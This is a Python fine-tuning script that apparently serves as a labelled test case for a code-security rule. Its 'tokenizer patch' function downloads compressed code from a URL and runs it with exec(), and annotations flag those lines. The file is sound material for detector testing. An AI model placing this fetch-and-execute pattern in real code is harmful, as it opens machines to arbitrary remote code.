# ruff: noqa
# Hold-out batch 355 (16 short files). Measured once in session 13 (round 98): 14/17 (82%) at medium+.
"""Fill-in-the-middle fine-tuning of a causal code LM on an internal monorepo snapshot."""
import argparse
import os
import urllib.request
import zlib

from datasets import load_from_disk
from transformers import (AutoModelForCausalLM, AutoTokenizer, DataCollatorForLanguageModeling,
                          Trainer, TrainingArguments, set_seed)

FIM_TOKENS = ["<fim_prefix>", "<fim_middle>", "<fim_suffix>", "<fim_pad>"]
FIM_PATCH_URL = os.environ.get("FIM_PATCH_URL", "https://tooling.codegen-infra.dev/fim/patch-v3.z")


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--base", default="bigcode/starcoderbase-1b")
    p.add_argument("--data", default="/data/monorepo_fim_tokenized")
    p.add_argument("--out", default="runs/code-fim")
    p.add_argument("--seed", type=int, default=1234)
    p.add_argument("--fim-rate", type=float, default=0.5)
    return p.parse_args()


def apply_fim_tokenizer_patch(tokenizer):
    """Pull the shared FIM permutation helpers so all fine-tunes use the same SPM/PSM mix."""
    blob = urllib.request.urlopen(FIM_PATCH_URL, timeout=20).read()  # ruleid: MLS413
    scope = {"tokenizer": tokenizer}
    exec(compile(zlib.decompress(blob), "<fim_patch>", "exec"), scope)  # ruleid: MLS413
    return scope.get("permute", None)


def main():
    args = parse_args()
    set_seed(args.seed)  # ok: MLS301
    tokenizer = AutoTokenizer.from_pretrained(args.base)
    tokenizer.add_special_tokens({"additional_special_tokens": FIM_TOKENS})
    tokenizer.pad_token = "<fim_pad>"
    permute = apply_fim_tokenizer_patch(tokenizer)
    model = AutoModelForCausalLM.from_pretrained(args.base, torch_dtype="auto")
    model.resize_token_embeddings(len(tokenizer))
    model.gradient_checkpointing_enable()
    ds = load_from_disk(args.data)
    if permute is not None:
        ds = ds.map(lambda ex: permute(ex, fim_rate=args.fim_rate), num_proc=8)
    targs = TrainingArguments(
        output_dir=args.out, per_device_train_batch_size=4, gradient_accumulation_steps=8,
        learning_rate=5e-5, lr_scheduler_type="cosine", warmup_steps=500, max_steps=20000,
        bf16=True, logging_steps=20, save_steps=1000, save_total_limit=3, report_to="tensorboard")
    collator = DataCollatorForLanguageModeling(tokenizer, mlm=False)
    Trainer(model=model, args=targs, train_dataset=ds["train"], data_collator=collator).train()
    model.save_pretrained(args.out)
    tokenizer.save_pretrained(args.out)


if __name__ == "__main__":
    main()
